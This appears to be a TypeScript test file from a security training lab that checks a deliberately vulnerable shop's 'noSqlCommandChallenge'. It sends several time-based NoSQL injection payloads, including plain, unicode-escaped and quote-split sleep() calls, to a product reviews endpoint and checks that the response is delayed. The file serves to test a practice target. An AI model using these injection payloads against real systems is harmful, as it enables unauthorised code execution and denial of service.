import type { Attack, Tools } from '#lab'

/** Reads the reviews of this “product” and expects the shop to sleep. */
async function lull({ http, expect }: Tools, product: string): Promise<void> {
  const start = Date.now()
  const answer = await http.get(`/rest/products/${encodeURIComponent(product)}/reviews`)
  expect(answer.status === 200, `the shop answered with ${answer.status}`)
  expect(Date.now() - start > 2_000, 'the shop is wide awake')
}

export const attacks: Attack[] = [
  { challenge: 'noSqlCommandChallenge', name: 'sleep(2000)', run: (tools) => lull(tools, 'sleep(2000)') },
  {
    challenge: 'noSqlCommandChallenge',
    name: 'a nap that is spelled in another way',
    run: (tools) => lull(tools, 'sl\\u0065ep(2000)'),
  },
  {
    challenge: 'noSqlCommandChallenge',
    name: 'a nap on both sides of a quote',
    run: (tools) => lull(tools, "sleep(500)//'||sleep(500)//"),
  },
]
